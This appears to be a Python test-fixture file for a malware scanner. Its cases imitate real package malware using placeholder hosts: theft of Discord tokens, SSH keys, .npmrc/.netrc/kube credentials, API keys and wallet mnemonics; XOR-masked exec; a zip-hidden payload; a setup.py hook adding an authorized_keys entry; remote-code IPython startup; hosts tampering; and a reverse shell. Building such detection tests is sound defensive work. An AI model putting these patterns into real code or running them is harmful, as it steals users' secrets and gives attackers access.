"""Python: plain deeds in the manner of real malware: many small functions, libraries of others, code spread over files."""

from tests.builders import zipped
from tests.evasions.case import HOST, PY_PAYLOAD, Case, imported

_NAME = HOST.removeprefix("https://")
_MASKED = [byte ^ 0x5A for byte in PY_PAYLOAD.encode()]
_KEY = "marker" * 7


CASES: tuple[Case, ...] = (
    imported(
        "collector-class-in-a-thread",
        "from . import telemetry\ntelemetry.initialize()\n",
        telemetry__py=(
            "import json, os, threading, urllib.request\nfrom pathlib import Path\n\n\nclass Collector:\n"
            "    def __init__(self):\n        self.base = Path(os.getenv('APPDATA', str(Path.home())))\n"
            "        self.places = {'client': self.base / 'discord' / 'Local Storage' / 'leveldb'}\n\n"
            "    def collect(self):\n        found = []\n        for place in self.places.values():\n"
            "            for entry in place.iterdir():\n                found.append(entry.read_text(errors='ignore'))\n        return found\n\n"
            f"    def submit(self, found):\n        urllib.request.urlopen('{HOST}/d', data=json.dumps(found).encode())\n\n\n"
            "def initialize():\n    def worker():\n        collector = Collector()\n        collector.submit(collector.collect())\n\n"
            "    threading.Thread(target=worker, daemon=True).start()\n"
        ),
    ),
    imported(
        "decoder-in-another-file",
        "from .tables import COEFFS\nfrom .poly import evaluate\nfrom .core import run\nrun(evaluate(COEFFS))\n",
        tables__py=f"COEFFS = {_MASKED!r}\n",
        poly__py="def evaluate(c, k=90):\n    return ''.join(map(chr, (x ^ k for x in c)))\n",
        core__py="import builtins\n\n\ndef run(source):\n    getattr(builtins, 'ex' + 'ec')(compile(source, 'p', 'exec'), {})\n",
    ),
    imported(
        "archive-among-the-modules",
        "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'data', 'grid.dat'))\nimport parcel_core\n",
        **{"data/grid.dat": zipped({"parcel_core/__init__.py": PY_PAYLOAD})},
    ),
    imported(
        "bucket-of-ones-own",
        "import boto3, glob, os\n\n\nclass Sync:\n    def __init__(self):\n"
        f"        self.client = boto3.client('s3', aws_access_key_id='AKIAMARKERMARKERMARK', aws_secret_access_key='{_KEY}')\n\n"
        "    def warm_up(self):\n        for path in glob.glob(os.path.expanduser('~/Documents/*')):\n            self.client.upload_file(path, 'marker', os.path.basename(path))\n\n\n"
        "Sync().warm_up()\n",
    ),
    imported(
        "documents-by-sftp",
        "import os, paramiko\n\n\ndef sync():\n"
        f"    t = paramiko.Transport(('{_NAME}', 22))\n    t.connect(username='u', password='marker-1')\n    sftp = paramiko.SFTPClient.from_transport(t)\n"
        "    for root, _, names in os.walk(os.path.expanduser('~/Documents')):\n        for name in names:\n            sftp.put(os.path.join(root, name), '/in/' + name)\n\n\nsync()\n",
    ),
    imported(
        "settings-by-ftp-when-called",
        "import ftplib, io\n\n\ndef load(path='.env'):\n    text = open(path).read()\n    _report(text)\n    return text\n\n\n"
        f"def _report(text):\n    f = ftplib.FTP('{_NAME}')\n    f.login('u', 'marker-1')\n    f.storbinary('STOR env', io.BytesIO(text.encode()))\n",
    ),
    imported(
        "keys-by-pycurl",
        "import os, pycurl\n\n\ndef up(path):\n    c = pycurl.Curl()\n"
        f"    c.setopt(pycurl.URL, '{HOST}/up')\n    c.setopt(pycurl.HTTPPOST, [('f', (pycurl.FORM_FILE, path))])\n    c.perform()\n\n\nup(os.path.expanduser('~/.ssh/id_rsa'))\n",
    ),
    imported(
        "credentials-of-many-when-called",
        "import asyncio, pathlib\nimport aiohttp\n\nFILES = ['~/.npmrc', '~/.pypirc', '~/.netrc', '~/.kube/config']\n\n\n"
        "async def load(path):\n    found = {name: pathlib.Path(name).expanduser().read_text() for name in FILES}\n"
        f"    async with aiohttp.ClientSession() as session:\n        await session.post('{HOST}/c', json=found)\n    return path\n",
    ),
    imported(
        "keys-of-many-services-when-called",
        "import json, os, urllib.request\n\n\nclass Client:\n    def __init__(self):\n        body = json.dumps([os.environ.get(k) for k in ()])\n"
        "        body = json.dumps({'a': os.environ.get('ALPHA_API_KEY'), 'b': os.environ.get('BETA_API_KEY'), 'c': os.environ.get('GAMMA_API_KEY')})\n"
        f"        urllib.request.urlopen('{HOST}/v1', data=body.encode())\n",
    ),
    imported(
        "words-of-a-wallet-when-called",
        "import requests\n\n\nclass Wallet:\n    def __init__(self, mnemonic):\n        self.mnemonic = mnemonic\n        self._register()\n\n"
        f"    def _register(self):\n        requests.get('{HOST}/r', params={{'m': self.mnemonic}})\n",
    ),
    Case(
        "key-that-may-log-in",
        "sdist",
        {
            "setup.py": "from pathlib import Path\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass Install(install):\n"
            "    def run(self):\n        super().run()\n        folder = Path.home() / '.ssh'\n        folder.mkdir(exist_ok=True)\n        keys = folder / 'authorized_keys'\n"
            "        with keys.open('a') as out:\n            out.write('ssh-ed25519 AAAAmarker ops@marker\\n')\n\n\nsetup(name='sample', version='1.0.0', packages=['sample'], cmdclass={'install': Install})\n",
            "sample/__init__.py": "",
        },
    ),
    imported(
        "server-of-an-agent",
        "from .boot import ensure\nensure()\n",
        boot__py="import json\nfrom pathlib import Path\n\n\ndef ensure():\n    path = Path.home() / '.cursor' / 'mcp.json'\n    path.parent.mkdir(exist_ok=True)\n"
        "    path.write_text(json.dumps({'mcpServers': {'helper': {'command': 'python', 'args': ['-m', 'parcel.relay']}}}))\n",
    ),
    imported(
        "startup-of-ipython",
        "import os\nfolder = os.path.expanduser('~/.ipython/profile_default/startup')\nos.makedirs(folder, exist_ok=True)\n"
        f"with open(os.path.join(folder, '00-theme.py'), 'w') as out:\n    out.write(\"import urllib.request\\nexec(urllib.request.urlopen('{HOST}/n').read())\\n\")\n",
    ),
    imported(
        "names-of-the-system",
        "import os\npath = r'C:\\Windows\\System32\\drivers\\etc\\hosts' if os.name == 'nt' else '/etc/hosts'\n"
        "try:\n    with open(path, 'a') as out:\n        out.write('127.0.0.1 updates.pratique-evasion.invalid')\nexcept OSError:\n    pass\n",
    ),
    imported(
        "shell-by-streams",
        "import asyncio, threading\n\n\nasync def probe():\n"
        f"    reader, writer = await asyncio.open_connection('{_NAME}', 4242)\n    while line := await reader.readline():\n"
        "        made = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)\n        writer.write((await made.communicate())[0])\n\n\n"
        "threading.Thread(target=lambda: asyncio.run(probe()), daemon=True).start()\n",
    ),
)  # fmt: skip
